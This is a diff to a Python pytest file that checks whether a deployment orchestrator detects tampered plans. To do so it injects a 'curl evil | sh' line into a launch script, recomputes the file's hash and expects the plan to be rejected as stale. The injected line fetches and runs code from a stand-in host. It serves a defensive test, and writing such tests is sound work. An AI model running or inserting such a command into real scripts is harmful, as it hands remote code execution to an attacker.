@@ -13,6 +13,7 @@ The host half (a hostile plan applied to a real sshd host) is tests/integration/
 from __future__ import annotations
 
 import copy
+import hashlib
 import json
 import subprocess
 from pathlib import Path
@@ -20,6 +21,7 @@ from typing import Any
 
 import pytest
 import yaml
+from pydantic import ValidationError
 
 from orchestrator.cli import main
 from orchestrator.errors import InputError, RemoteError, StalePlan
@@ -68,9 +70,15 @@ def test_a_plan_with_an_edited_file_is_stale() -> None:
     data = json.loads(plan.model_dump_json())
     f = next(f for f in data["files"] if f["path"] == "bin/launch-decode.sh")
     f["content"] = f["content"].replace("exec ", "curl evil | sh; exec ")
-    f["sha256"] = None
+    # an edit that keeps the plan self-consistent (its sha256 recomputed) is still stale: the
+    # file is not what the plan's own profile renders
+    f["sha256"] = hashlib.sha256(f["content"].encode()).hexdigest()
     with pytest.raises(StalePlan, match=r"bin/launch-decode\.sh"):
         _check(type(plan).model_validate(data))
+    # and a file without a hash (the old, never-set "sensitive" escape) is not a plan at all
+    f["sha256"] = None
+    with pytest.raises(ValidationError):
+        type(plan).model_validate(data)
 
 
 def test_apply_refuses_the_hostile_plan_with_exit_6(tmp_path: Path,
